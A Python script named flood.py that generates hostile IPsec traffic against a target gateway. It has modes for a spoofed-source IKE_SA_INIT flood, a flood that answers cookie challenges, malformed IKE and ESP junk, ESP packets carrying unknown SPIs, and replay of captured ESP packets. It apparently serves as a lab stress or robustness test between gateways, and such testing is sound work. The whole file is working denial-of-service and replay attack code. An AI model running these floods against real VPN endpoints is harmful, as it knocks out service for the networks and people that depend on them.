#!/usr/bin/env python3
"""Hostile traffic, from the router between the gateways. TARGET is an IPv4 address.

flood.py init TARGET SECONDS    IKE_SA_INIT requests that look right, each from another source (198.18.0.0/15)
flood.py stubborn TARGET COUNT  IKE_SA_INIT requests from one true address and many ports, which bring the cookie that is asked for
flood.py junk TARGET COUNT      random bytes to UDP 500 and 4500 and in IP protocol 50, COUNT of each kind
flood.py spi TARGET COUNT       COUNT ESP packets of SPIs that nobody has, half of them in UDP 4500, half in IP protocol 50
flood.py replay TARGET DEVICE   sends each ESP packet (protocol 50) for TARGET that DEVICE receives twice more, until it is told to end
"""
import os
import random
import signal
import socket
import struct
import sys
import time

ESP = 50


def raw_socket():
    return socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)


def ip_header(source, target, protocol, length):
    """The kernel fills in the checksum."""
    return struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + length, 0, 0, 64, protocol, 0, source, target)


def transform(last, kind, number, attributes=b""):
    return struct.pack("!BBHBBH", 0 if last else 3, 0, 8 + len(attributes), kind, 0, number) + attributes


def payload(following, body):
    return struct.pack("!BBH", following, 0, 4 + len(body)) + body


def init_message():
    """AES-256-GCM, SHA-384, X25519; the first eight bytes, the SPI, and the key are for the caller to change."""
    transforms = (transform(False, 1, 20, struct.pack("!HH", 0x800E, 256)) + transform(False, 2, 6) +
                  transform(True, 4, 31))
    proposal = struct.pack("!BBHBBBB", 0, 0, 8 + len(transforms), 1, 1, 0, 3) + transforms
    body = payload(34, proposal) + payload(40, struct.pack("!HH", 31, 0) + os.urandom(32)) + payload(0, os.urandom(32))
    return struct.pack("!8s8sBBBBII", bytes(8), bytes(8), 33, 0x20, 34, 8, 0, 28 + len(body)) + body


def flood_init(target, seconds):
    sender, message = raw_socket(), bytearray(init_message())
    address, sent, end = socket.inet_aton(target), 0, time.monotonic() + seconds
    size = 8 + len(message)
    while time.monotonic() < end:
        for _ in range(100):
            message[0:8] = os.urandom(8)
            source = struct.pack("!I", 0xC6120000 + random.getrandbits(17))
            udp = struct.pack("!HHHH", 1024 + random.getrandbits(15), 500, size, 0)
            sender.sendto(ip_header(source, address, 17, size) + udp + message, (target, 0))
        sent += 100
        time.sleep(0.002)
    print(sent)


def flood_stubborn(target, count):
    cookies = accepted = 0
    for _ in range(count):
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
            message = os.urandom(8) + init_message()[8:]
            s.settimeout(0.2)
            s.connect((target, 500))
            try:
                s.send(message)
                answer = s.recv(65535)
                if answer[16] == 41 and answer[34:36] == struct.pack("!H", 16390):
                    cookies += 1
                    notify = payload(33, struct.pack("!BBH", 0, 0, 16390) + answer[36:])
                    s.send(message[:16] + b"\x29" + message[17:24] + struct.pack("!I", len(message) + len(notify)) +
                           notify + message[28:])
                    answer = s.recv(65535)
                accepted += answer[16] == 33
            except socket.timeout:
                continue
    print(cookies, accepted)


def flood_junk(target, count):
    udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    esp = socket.socket(socket.AF_INET, socket.SOCK_RAW, ESP)
    init = init_message()
    for i in range(count):
        junk = os.urandom(1 + random.getrandbits(8))
        spi = struct.pack("!I", 0x10000000 | random.getrandbits(28))
        udp.sendto(junk, (target, 500))
        udp.sendto(spi + junk, (target, 4500))
        udp.sendto(bytes(4) + junk, (target, 4500))
        esp.sendto(spi + struct.pack("!I", i) + os.urandom(64), (target, 0))
        # A request that is cut, one with an SPI that nobody has, one of another version.
        udp.sendto(init[:random.randrange(28, len(init))], (target, 500))
        udp.sendto(os.urandom(16) + struct.pack("!BBBBII", 46, 0x20, 37, 8, 1, 28 + 64) + os.urandom(64), (target, 500))
        udp.sendto(os.urandom(16) + struct.pack("!BBBBII", 33, 0x30, 34, 8, 0, 28), (target, 500))
        if i % 50 == 49:
            time.sleep(0.002)


def flood_spi(target, count):
    udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    esp = socket.socket(socket.AF_INET, socket.SOCK_RAW, ESP)
    udp.connect((target, 4500))
    esp.connect((target, 0))
    body = os.urandom(92)
    for i in range(count // 2):
        head = struct.pack("!II", 0x10000000 | random.getrandbits(28), i)
        udp.send(head + body)
        esp.send(head + body)
        if i % 50 == 49:
            time.sleep(0.002)


# Until it is told to end; then it says how many.
def replay(target, device):
    listener = socket.socket(socket.AF_PACKET, socket.SOCK_DGRAM, socket.htons(0x0800))
    listener.bind((device, 0x0800))
    listener.settimeout(0.1)
    sender, again, ended = raw_socket(), 0, []
    signal.signal(signal.SIGTERM, lambda *_: ended.append(True))
    print("listening", file=sys.stderr, flush=True)
    while not ended:
        try:
            packet, origin = listener.recvfrom(65535)
        except socket.timeout:
            continue
        if origin[2] == socket.PACKET_HOST and packet[9] == ESP and socket.inet_ntoa(packet[16:20]) == target:
            for _ in range(2):
                sender.sendto(packet, (target, 0))
                again += 1
    print(again)


def main():
    what, target = sys.argv[1], sys.argv[2]
    if what == "init":
        flood_init(target, float(sys.argv[3]))
    elif what == "stubborn":
        flood_stubborn(target, int(sys.argv[3]))
    elif what == "junk":
        flood_junk(target, int(sys.argv[3]))
    elif what == "spi":
        flood_spi(target, int(sys.argv[3]))
    elif what == "replay":
        replay(target, sys.argv[3])


main()
